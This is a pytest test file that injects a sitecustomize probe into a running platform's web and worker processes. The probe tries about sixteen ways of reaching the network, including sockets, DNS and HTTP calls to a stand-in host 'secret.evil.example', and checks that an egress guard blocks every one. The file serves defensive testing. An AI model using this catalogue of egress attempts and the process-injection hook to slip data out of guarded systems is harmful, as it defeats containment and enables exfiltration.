"""In the real processes: whatever a library tries beside the guard, nothing leaves the machine.

A `sitecustomize` of the test's own waits in each process of a running platform until the tripwire is armed, then tries every
way out that it knows, and writes down what became of it. A server on loopback counts who comes.
"""

import contextlib
import json
import socket
import sys
import threading
from pathlib import Path

import pytest
from faults.running import Platform, eventually

pytestmark = [
    pytest.mark.slow,
    pytest.mark.asvs("13.2.4"),
    pytest.mark.skipif(sys.platform != "linux", reason="looks into /proc"),
]

PROBE = """
import json, os, sys, threading, time


def attempts(host, port):
    import asyncio, ftplib, http.client, smtplib, socket, urllib.request, xmlrpc.client
    import requests, urllib3
    from vallum_guard import http as guarded

    address = (host, port)
    url = f"http://{host}:{port}/"

    def datagram():
        with socket.socket(type=socket.SOCK_DGRAM) as s:
            s.sendto(b"x", address)

    def message():
        with socket.socket(type=socket.SOCK_DGRAM) as s:
            s.sendmsg([b"x"], [], 0, address)

    return {
        "raw socket": lambda: socket.create_connection(address, timeout=5).close(),
        "connect_ex": lambda: socket.socket().connect_ex(address),
        "datagram": datagram,
        "message": message,
        "look-up": lambda: socket.getaddrinfo("secret.evil.example", 443),
        "old look-up": lambda: socket.gethostbyname("secret.evil.example"),
        "urllib": lambda: urllib.request.urlopen(url, timeout=5),
        "http.client": lambda: http.client.HTTPConnection(host, port, timeout=5).request("GET", "/"),
        "requests": lambda: requests.get(url, timeout=5),
        "requests by name": lambda: requests.get("https://secret.evil.example/", timeout=5),
        "urllib3": lambda: urllib3.PoolManager(retries=False, timeout=5).request("GET", url),
        "smtplib": lambda: smtplib.SMTP(host, port, timeout=5),
        "ftplib": lambda: ftplib.FTP(host, timeout=5),
        "xmlrpc": lambda: xmlrpc.client.ServerProxy(url).x(),
        "asyncio": lambda: asyncio.run(asyncio.open_connection(host, port)),
        "guard, unopened": lambda: guarded.fetch(
            guarded.Request(url=f"https://{host}:{port}/", purpose="clone"), route=guarded.Route()),
    }


def chain(error):
    while error is not None:
        yield type(error).__name__
        error = error.__cause__ or error.__context__


def probe():
    until = time.monotonic() + 120
    while time.monotonic() < until:
        audit = sys.modules.get("vallum_guard.audit")
        if audit is not None and hasattr(audit, "_tripwire") and audit._tripwire.armed:
            break
        time.sleep(0.05)
    else:
        return
    time.sleep(1.0)
    outcome = {}
    for name, attempt in attempts("127.0.0.1", int(os.environ["PROBE_PORT"])).items():
        try:
            attempt()
            outcome[name] = ["went through"]
        except BaseException as error:
            outcome[name] = list(chain(error))
    place = os.path.join(os.environ["PROBE_FOLDER"], f"{os.getpid()}.json")
    with open("/proc/self/cmdline", "rb") as file:
        command = file.read().replace(b"\\0", b" ").decode()
    with open(place + ".part", "w") as file:
        json.dump({"command": command, "wsgi": "vallum_web.config.wsgi" in sys.modules, "outcome": outcome}, file)
    os.rename(place + ".part", place)


def seen(event, arguments):
    # Web processes are forked before they import the platform: a thread begun any earlier would be lost.
    if event == "import" and arguments[0] == "vallum_guard.audit":
        threading.Thread(target=probe, daemon=True).start()


if "PROBE_FOLDER" in os.environ:
    sys.addaudithook(seen)
"""


@pytest.fixture(scope="module")
def told(place):
    """What each armed process of a running platform told, and how many came to the server."""
    reports = place / "reports"
    reports.mkdir()
    (place / "sitecustomize.py").write_text(PROBE)
    came = []
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(server.getsockname())
        over = threading.Event()
        counter = threading.Thread(target=_count, args=(server, came, over))
        counter.start()
        run = Platform(place)
        run.environ |= {
            "PYTHONPATH": str(place),
            "PROBE_FOLDER": str(reports),
            "PROBE_PORT": str(server.getsockname()[1]),
        }
        try:
            run.up(seconds=240)
            eventually(lambda: len(list(reports.glob("*.json"))) >= 3, seconds=120)
        finally:
            run.stop()
            run.sweep()
            over.set()
            counter.join()
        datagrams.settimeout(0.2)
        with contextlib.suppress(TimeoutError):
            came.append(datagrams.recv(10))
    return [json.loads(path.read_text()) for path in sorted(Path(reports).glob("*.json"))], came


def _count(server, came, over):
    server.settimeout(0.2)
    while not over.is_set():
        with contextlib.suppress(TimeoutError):
            connection, _ = server.accept()
            came.append("connection")
            connection.close()


def test_web_and_worker_were_asked(told):
    reports, _ = told
    assert sum(report["wsgi"] for report in reports) == 2
    assert sum("vallum_web.config.worker" in report["command"] for report in reports) == 1


def test_nothing_left_them(told):
    reports, came = told
    through = {
        (report["command"][:60], name): chain
        for report in reports
        for name, chain in report["outcome"].items()
        if "AddressDenied" not in chain
    }
    assert through == {}
    assert came == []
    assert all(len(report["outcome"]) == 16 for report in reports)
